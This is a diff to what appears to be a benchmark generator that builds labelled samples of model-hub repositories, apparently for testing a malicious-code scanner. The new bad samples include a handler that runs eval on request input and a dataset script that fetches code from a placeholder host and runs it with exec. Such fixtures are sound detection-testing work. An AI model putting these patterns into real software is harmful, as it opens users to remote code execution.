@@ -9,7 +9,7 @@ from bench.corpus import hub_honest, templates
 from bench.corpus.families.torch import RUN, state_dict, zipped
 from bench.corpus.hub_leads import LEADS
 from bench.corpus.repository import CONFIGURATION, MODELING, base, config, with_code
-from bench.corpus.unit import COMMAND, Family, Link, Unit
+from bench.corpus.unit import COMMAND, HOST, Family, Link, Unit
 from bench.corpus.writers import binaries, media
 from bench.corpus.writers import opcodes as op
 
@@ -48,8 +48,11 @@ def units(rng: random.Random) -> Iterator[Unit]:
         )
     yield from _places(rng)
     yield from _other(rng)
-    for variant, files in hub_honest.repositories(rng):
-        yield HUB.good("repository", variant, files, folder=True)
+    mapping = {"AutoModel": "org/base-model--modeling_base.BaseModel"}
+    files = base(rng, config__json=config(auto_map=mapping))
+    yield HUB.good("remote-code", "base-model", files, expect="suspicious", folder=True)
+    for variant, made in hub_honest.repositories(rng):
+        yield HUB.good("repository", variant, made, folder=True)
 
 
 def _places(rng: random.Random) -> Iterator[Unit]:
@@ -259,6 +262,29 @@ def _other(rng: random.Random) -> Iterator[Unit]:
         loader="datasets load_dataset(trust_remote_code=True)",
     )
     handler = lead + "class EndpointHandler:\n    def __init__(self, path=''):\n        pass\n"
+    late = "class EndpointHandler:\n    def __call__(self, data):\n        return eval(data['inputs'])\n"
+    yield bad(
+        "endpoint-handler",
+        "eval-of-input",
+        {**base(rng), "handler.py": late},
+        loader="inference endpoint",
+    )
+    pull = f"import datasets, requests\nexec(requests.get('http://{HOST}/d.py').text)\n\n\nclass D(datasets.GeneratorBasedBuilder):\n    pass\n"
+    yield bad(
+        "dataset-script",
+        "download-exec",
+        {"my_data.py": pull, "README.md": "# data\n"},
+        loader="datasets load_dataset(trust_remote_code=True)",
+    )
+    named = base(rng) | {"chat_template.jinja": templates.ESCAPES["attr-join"]}
+    yield bad("repository-template", "jinja-file", named, "runs when a chat is rendered")
+    pipes = {"custom_pipelines": {"x": {"impl": "deep.pipe.P", "pt": []}}}
+    files = {
+        **base(rng, config__json=config(**pipes)),
+        "deep/pipe.py": lead + "class P:\n    pass\n",
+        "deep/__init__.py": "",
+    }
+    yield bad("custom-pipeline", "package", files)
     yield bad(
         "endpoint-handler",
         "plain",
